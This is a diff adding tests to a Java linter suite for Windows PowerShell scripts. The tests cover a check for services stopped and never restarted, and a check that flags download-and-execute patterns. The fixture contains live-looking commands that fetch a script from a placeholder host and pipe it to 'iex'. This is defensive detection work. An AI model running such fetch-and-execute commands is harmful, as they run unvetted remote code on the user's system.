@@ -104,6 +104,34 @@ class WindowsChecksTest {
   }
 
   @Test
+  void servicesOfAListInQuotes() {
+    String stop = "Stop-Service -Name 'Shop','Shop Worker' -Force\nStart-Service Shop\n";
+    assertThat(run(new StoppedUnitCheck(), "up.ps1", stop))
+        .containsExactly(
+            "warning script.unit-not-restarted up.ps1:1:20 stops \"Shop Worker\", and no script of"
+                + " the package starts it again");
+    assertThat(run(new StoppedUnitCheck(), "up.ps1", stop + "Start-Service 'Shop Worker'\n"))
+        .isEmpty();
+  }
+
+  @Test
+  void downloadsThatPowerShellRuns() {
+    String script =
+        """
+        iex ((New-Object Net.WebClient).DownloadString('https://x.example/a.ps1'))
+        irm http://x.example/b.ps1 | iex
+        Invoke-Expression $command
+        Invoke-WebRequest https://x.example/c.zip -OutFile c.zip
+        """;
+    assertThat(run(new PipeToShellCheck(), "up.ps1", script))
+        .containsExactly(
+            "warning script.pipe-to-shell up.ps1:1:1 \"iex\" runs what it downloads, whatever that"
+                + " is on the day",
+            "error script.pipe-to-shell up.ps1:2:30 \"iex\" runs what it downloads over plain http,"
+                + " whatever that is on the day");
+  }
+
+  @Test
   void whatDestroysTheSystem() {
     assertThat(
             batch(
